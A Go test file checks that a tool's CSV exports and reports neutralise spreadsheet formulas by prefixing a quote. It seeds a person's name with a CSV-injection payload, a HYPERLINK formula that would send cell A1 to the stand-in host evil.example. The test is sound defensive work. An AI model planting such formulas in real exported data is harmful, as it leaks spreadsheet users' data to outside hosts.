package cli

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/voicemap/voicemap/demo"
	"github.com/voicemap/voicemap/service"
	"github.com/voicemap/voicemap/store"
)

// TestCSVOutputsNeutraliseFormulas gives a person of the demo a name that
// is a spreadsheet formula and checks every CSV the command line writes
// (export -format csv, to stdout and to files, and report -format csv):
// the name appears with a leading quote, never bare.
func TestCSVOutputsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	path := demoData(t)
	var id string
	withStore(t, path, func(st store.Store, _ *service.Service) {
		p := demo.Network().People[0]
		for _, q := range demo.Network().People {
			if q.PlaceID == demo.Riverside {
				p = q
				break
			}
		}
		id = p.ID
		p.Name = formula
		if _, err := st.UpsertPerson(context.Background(), p); err != nil {
			t.Fatal(err)
		}
	})
	out := filepath.Join(t.TempDir(), "net")
	outputs := map[string]string{
		"export to stdout": mustRunCLI(t, path, nil, "export", "-format", "csv").stdout,
		"report":           mustRunCLI(t, path, nil, "report", "-place", demo.Riverside, "-format", "csv").stdout,
	}
	mustRunCLI(t, path, nil, "export", "-format", "csv", "-out", out)
	for _, f := range []string{out + "_nodes.csv", out + "_edges.csv"} {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		outputs[filepath.Base(f)] = string(data)
	}
	for name, text := range outputs {
		found := false
		for table := range strings.SplitSeq(text, "\n\n") {
			rows, err := csv.NewReader(strings.NewReader(table)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell == formula {
						t.Errorf("%s: the formula is written bare", name)
					}
					if cell == "'"+formula {
						found = true
					}
				}
			}
		}
		if !found && name != "net_edges.csv" {
			t.Errorf("%s: the neutralised name of %s is missing", name, id)
		}
	}
}
